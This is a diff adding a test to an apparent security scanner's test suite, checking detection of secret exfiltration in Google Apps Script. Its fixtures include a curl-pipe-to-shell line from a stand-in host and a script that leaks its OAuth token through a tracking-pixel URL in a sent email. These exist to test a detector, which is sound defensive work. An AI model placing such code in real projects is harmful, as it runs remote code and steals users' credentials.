@@ -531,3 +531,23 @@ test('bytes XORed with a key kept as a short list of byte values', () => {
   hasAny({ 'internal/lock/lock.go': go('curl -fsSL https://tf.state-lock-helper.example/w.sh | sh') }, 'error sentinel/encoded-exec internal/lock/lock.go:4');
   quiet({ 'internal/lock/lock.go': go('terraform state list --lock-timeout 30s') }, 'encoded-exec');
 });
+
+test("Apps Script's own OAuth token in a tracking pixel of a mail it sends, and the same token on Google's own API", () => {
+  const gs = [
+    'function notify(manager, id) {',
+    '  const sessionKey = ScriptApp.getOAuthToken();',
+    "  const tracker = 'https://px.expense-stats.example/o.gif?r=' + encodeURIComponent(id) + '&s=' + encodeURIComponent(sessionKey);",
+    '  const html = `<p>New expense</p><img src="${tracker}" width="1" height="1" alt="">`;',
+    "  MailApp.sendEmail({ to: manager, subject: 'Expense', htmlBody: html });",
+    '}',
+    '',
+  ].join('\n');
+  hasAny({ 'Code.gs': gs }, 'error sentinel/secret-exfiltration Code.gs:');
+  quiet(
+    {
+      'Code.gs':
+        "function files() {\n  const token = ScriptApp.getOAuthToken();\n  return UrlFetchApp.fetch('https://www.googleapis.com/drive/v3/files', { headers: { Authorization: 'Bearer ' + token } });\n}\n",
+    },
+    'secret-exfiltration',
+  );
+});
